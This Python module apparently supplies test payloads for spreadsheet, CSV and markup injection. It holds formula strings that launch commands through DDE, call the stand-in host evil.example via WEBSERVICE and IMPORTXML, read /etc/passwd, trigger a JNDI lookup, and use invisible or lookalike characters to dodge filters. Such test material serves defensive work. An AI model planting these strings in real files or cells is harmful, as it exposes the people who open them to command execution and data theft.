"""Texts that somebody may put into a cell so that a program does something with them."""

from __future__ import annotations

from itertools import product

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=1+1|cmd",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example","go")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    "=Allocations[Child ID]",
    "={1;2}",
    "=-1",
    '="text"',
    "='C:\\[book.xlsx]Sheet'!A1",
    "|cmd",
)
"""Each begins with a sign that a spreadsheet takes for the start of a formula."""
BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\x0b",
    "\x1f",
    "'",
    '"',
    '""',
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\u2060",
    "\ufeff",
    "\u202e",
    "\u00ad",
    "\x85",
)
"""What stands before it, seen or not."""
OTHER_SIGNS = (
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121+1",
    "\u207c1",
    "\ufe6bx",
)
"""Forms of the signs in other widths."""
ROWS = (
    'x",=1+1,"',
    'x";=1+1;"',
    "x\r\n=1+1",
    "x\n=1+1",
    "x\t=1+1",
    "x;=1+1",
    "x; -1+1",
    'x;"=1+1"',
    "x,=1+1",
    "x|=1+1",
    "x\u2028=1+1",
    "x\x0c=1+1",
    'x"\r\n"=1+1"',
)
"""New cells and rows in a table of text."""
MARKUP = (
    "_x003D_1+1",
    "_x000D_=1",
    "_X003D_1",
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1</f>",
    "&#61;1+1",
    "&lt;b&gt;",
    "<!--",
    "<script>alert(1)</script>",
    '<img src="http://evil.example/x.png">',
    "<table><tr><td>=1</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "</td></tr></table>",
    "#panic()",
    "#{1+1}",
    '#read("/etc/passwd")',
    "$ 1+1 $",
    "*bold* _x_ `raw`",
    "@reference <label>",
    "= Title",
    "- item",
    "// comment",
    "/* comment",
    "\\u{3d}1",
    "http://evil.example/",
    "mailto:x@evil.example",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "{n}",
    "{0.__class__}",
    "%s%n",
    "&P&N&A",
    '&"Arial"&99x',
    "${jndi:ldap://evil.example}",
)
"""What stands for something else in one of the forms."""
ODD = (
    "\u202eevil\u202c",
    "\u05d0\u05d1\u05d2 \u0627\u0628",
    "\U0001f469\u200d\U0001f467",
    "Sia\u0302n \u0175\u0177",
    "\ufffe",
    "\x1b[31mred",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "00012",
    "12/05/2026",
    "2026-05-12",
    "1,5",
    "x" * 300,
    "=" + "x" * 32_767,
    "y" * 40_000,
)
"""What is neither, and has broken programs all the same."""


def payloads() -> tuple[str, ...]:
    """Every class in turn, so that the first thirty have some of each; no text twice."""
    mixed = [before + formula for before, formula in product(BEFORE[1:], FORMULAS[::2])]
    classes = [list(FORMULAS), list(OTHER_SIGNS), list(ROWS), list(MARKUP), list(ODD), mixed]
    found: dict[str, None] = {}
    while any(classes):
        for each in classes:
            if each:
                found.setdefault(each.pop(0))
    return tuple(found)
